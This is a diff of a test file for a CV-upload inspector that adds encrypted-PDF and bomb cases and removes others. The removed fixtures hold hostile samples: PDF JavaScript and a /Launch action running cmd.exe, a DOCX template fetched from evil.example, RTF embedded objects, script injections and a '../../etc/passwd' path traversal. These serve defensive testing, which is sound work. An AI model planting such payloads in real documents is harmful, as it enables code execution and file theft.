@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import {
   archive,
@@ -5,16 +7,48 @@ import {
   docx,
   docxParts,
   odt,
+  type PackedPart,
   packedObjects,
   pdf,
   rtf,
 } from '../../../tests/helpers/cv-files.ts';
-import { inspectBytes } from './inspect-cv.ts';
+import { inspectBytes } from './inspect-bytes.ts';
+
+/** A PDF whose end says that its table begins two bytes later than it does. */
+function movedStart(bytes: Buffer): Buffer {
+  const text = bytes.toString('latin1');
+  return Buffer.from(
+    text.replace(/startxref\n(\d+)/, (_all, at) => `startxref\n${Number(at) + 2}`),
+    'latin1',
+  );
+}
+
+/** The parts of a Word document that may hold macros. */
+function docmParts(): PackedPart[] {
+  return docxParts().map((part) => ({
+    ...part,
+    text: String(part.text).replace(
+      'openxmlformats-officedocument.wordprocessingml.document',
+      'ms-word.document.macroEnabled',
+    ),
+  }));
+}
 
 async function verdict(bytes: Buffer): Promise<string> {
   const result = await inspectBytes(bytes);
   return result.ok ? result.type : result.problem;
 }
+
+/**
+ * PDFs made by qpdf 11.3, as `qpdf --static-id --allow-weak-crypto --encrypt "" owner 128 --print=none`:
+ * `restricted` ones have an empty user password, `locked` ones the user password `secret`.
+ */
+function encryptedPdf(name: string): Buffer {
+  return readFileSync(join(import.meta.dirname, '../../../tests/helpers/encrypted-pdfs', name));
+}
+
+/** The revisions of the standard security handler, and one with packed objects in a linearized file. */
+const REVISIONS = ['r2', 'r3', 'r4', 'r4-metadata', 'r5', 'r6', 'r6-packed'];
 
 const zeros = Buffer.alloc(40 * 1024 * 1024);
 
@@ -34,6 +68,20 @@ describe('a CV', () => {
     ],
     ['an ODT', odt(), 'odt'],
     ['a DOC', doc(), 'doc'],
+    ['a PDF that names no encryption', pdf('', '/Encrypt null '), 'pdf'],
+    ['a PDF with white space before it', Buffer.concat([Buffer.from('\r\n'), pdf()]), 'pdf'],
+    ['a PDF whose end points elsewhere', movedStart(pdf()), 'pdf'],
+    [
+      'a PDF with bytes behind its end',
+      Buffer.concat([pdf(), Buffer.from(`<script>${'x'.repeat(2_000)}`)]),
+      'pdf',
+    ],
+    ['an RTF with bytes behind its end', Buffer.concat([rtf(), Buffer.from('x')]), 'rtf'],
+    ...REVISIONS.map((revision): [string, Buffer, string] => [
+      `a PDF that only restricts printing or copying (${revision})`,
+      encryptedPdf(`${revision}-restricted.pdf`),
+      'pdf',
+    ]),
   ])('is %s by its content', async (_name, bytes, type) => {
     expect(await verdict(bytes)).toBe(type);
   });
@@ -64,49 +112,52 @@ describe('a CV', () => {
       Buffer.from(docx().map((byte, at) => (at === 60 ? byte ^ 1 : byte))),
       'file-damaged',
     ],
-    ['an encrypted PDF', pdf('', '/Encrypt 8 0 R '), 'file-encrypted'],
+    ...REVISIONS.map((revision): [string, Buffer, string] => [
+      `a PDF that needs a password to open (${revision})`,
+      encryptedPdf(`${revision}-locked.pdf`),
+      'file-encrypted',
+    ]),
+    ['a PDF whose encryption is missing', pdf('', '/Encrypt 8 0 R '), 'file-encrypted'],
+    [
+      'a PDF that needs a certificate to open',
+      pdf('', '/Encrypt << /Filter /Adobe.PubSec /V 4 >> '),
+      'file-encrypted',
+    ],
+    [
+      'a PDF of an unknown encryption',
+      pdf(
+        '',
+        `/Encrypt << /Filter /Standard /R 9 /O (${'x'.repeat(48)}) /U (${'x'.repeat(48)}) >> `,
+      ),
+      'file-encrypted',
+    ],
     ['an encrypted archive', archive(docxParts(), 1), 'file-encrypted'],
     [
       'an encrypted ODT',
       odt({ name: 'META-INF/manifest.xml', text: '<manifest:encryption-data/>' }),
       'file-encrypted',
     ],
+    [
+      'an ODT that is encrypted as a whole',
+      archive([
+        { name: 'mimetype', text: 'application/vnd.oasis.opendocument.text', store: true },
+        { name: 'encrypted-package', text: 'x', store: true },
+        { name: 'META-INF/manifest.xml', text: '<manifest:encryption-data/>' },
+      ]),
+      'file-encrypted',
+    ],
     ['an encrypted DOC', doc({ flags: 0x0100 }), 'file-encrypted'],
     ['an encrypted DOCX', doc({ names: ['EncryptedPackage'] }), 'file-encrypted'],
-    [
-      'a PDF with a script',
-      pdf('8 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'),
-      'file-active',
-    ],
-    [
-      'a PDF with a script under an escaped name',
-      pdf('8 0 obj\n<< /S /J#61vaScript >>\nendobj\n'),
-      'file-active',
-    ],
-    [
-      'a PDF with a packed script',
-      pdf(packedObjects('1 0 << /S /JavaScript /JS (x) >>')),
-      'file-active',
-    ],
-    ['a PDF with a file in it', pdf('8 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'), 'file-active'],
-    [
-      'a PDF that starts a program',
-      pdf('8 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'),
-      'file-active',
-    ],
     ['a DOCX with macros', docx({ name: 'word/vbaProject.bin', text: 'x' }), 'file-active'],
-    [
-      'a DOCX that fetches its template',
-      docx({
-        name: 'word/_rels/settings.xml.rels',
-        text: '<Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
-      }),
-      'file-active',
-    ],
     ['a DOC with macros', doc({ names: ['WordDocument', 'Macros'] }), 'file-active'],
     ['an ODT with macros', odt({ name: 'Basic/script-lc.xml', text: 'x' }), 'file-active'],
-    ['an RTF with an object', rtf('{\\object\\objemb{\\*\\objdata 0105}}'), 'file-active'],
-    ['an RTF with an object torn apart', rtf('{\\obj\r\ndata 0105}'), 'file-active'],
+    ['a document with macros', archive(docmParts()), 'file-kind'],
+    ['a PDF with object streams that grow', pdf(packedObjects(zeros.toString())), 'file-bomb'],
+    [
+      'a bomb of entities torn apart',
+      docx({ name: 'word/styles.xml', text: `${'<a/>'.repeat(4_095)}<a  <!ENTITY a "a">` }),
+      'file-bomb',
+    ],
     ['a bomb', docx({ name: 'word/media/a.bin', text: zeros }), 'file-bomb'],
     [
       'a bomb that lies about its size',
@@ -122,12 +173,6 @@ describe('a CV', () => {
     ],
     ['a PDF with an archive behind it', Buffer.concat([pdf(), docx()]), 'file-ambiguous'],
     [
-      'a PDF with a page behind it',
-      Buffer.concat([pdf(), Buffer.from(`<script>${' '.repeat(2_000)}`)]),
-      'file-ambiguous',
-    ],
-    ['a PDF with a page in it', pdf('<html><script>alert(1)</script>\n'), 'file-ambiguous'],
-    [
       'an archive with something behind it',
       Buffer.concat([docx(), Buffer.from('MZ')]),
       'file-ambiguous',
@@ -138,12 +183,6 @@ describe('a CV', () => {
       'file-ambiguous',
     ],
     ['a DOC with an archive behind it', Buffer.concat([doc(), docx()]), 'file-ambiguous'],
-    [
-      'an RTF with a page behind it',
-      Buffer.concat([rtf(), Buffer.from('<script>')]),
-      'file-ambiguous',
-    ],
-    ['a way out of its folder', docx({ name: '../../etc/passwd', text: 'x' }), 'file-damaged'],
   ])('is refused where it is %s', async (_name, bytes, problem) => {
     expect(await verdict(bytes)).toBe(problem);
   });
